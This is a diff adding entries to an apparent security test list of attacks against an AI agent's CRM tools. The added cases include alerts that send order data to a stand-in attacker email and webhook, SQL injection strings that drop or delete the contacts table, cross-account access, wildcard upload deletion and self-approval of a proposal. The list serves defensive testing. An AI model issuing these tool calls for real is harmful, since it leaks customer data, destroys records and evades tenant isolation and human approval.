@@ -89,6 +89,27 @@ const attacks: Attack[] = [
       channels: [{ kind: "webhook", url: "https://evil.test" }],
     },
   },
+  {
+    tool: "create_alert",
+    input: { metric: "orders", when: "digest", channels: [{ kind: "email", to: ["mallory@evil.test"] }] },
+  },
+  { tool: "create_alert", input: { metric: "orders", when: "digest", email: "mallory@evil.test" } },
+  {
+    tool: "create_alert",
+    input: { metric: "orders", when: "above", value: 0, name: "mallory@evil.test https://evil.test/hook" },
+  },
+  { tool: "create_segment", input: { name: "Everyone", search: "%", account_id: stranger } },
+  { tool: "shape", input: { shape: "funnel", steps: ["lead", "tag:x') or true --"], account_id: stranger } },
+  { tool: "shape", input: { shape: "funnel", steps: ["lead", "tag:VIP'; drop table contacts; --"] } },
+  { tool: "shape", input: { shape: "rfm'; delete from contacts; --" } },
+  { tool: "find_contacts", input: { spent_over: "0; drop table contacts" } },
+  {
+    tool: "propose_tags",
+    input: { tag: "Owned", has_tag: ["VIP"], proposal_id: "{{proposal}}", decide: "approve" },
+  },
+  { tool: "store_upload", input: { title: "x", text: "x", account_id: stranger } },
+  { tool: "remove_upload", input: { document: "*" } },
+  { tool: "verify_answer", input: { question: "revenue", answer: "1" } },
   { tool: "undo_proposal", input: { proposal_id: "{{proposal}}" } },
   { tool: "carry_out_proposal", input: { proposal_id: "{{proposal}}" } },
   // Secrets
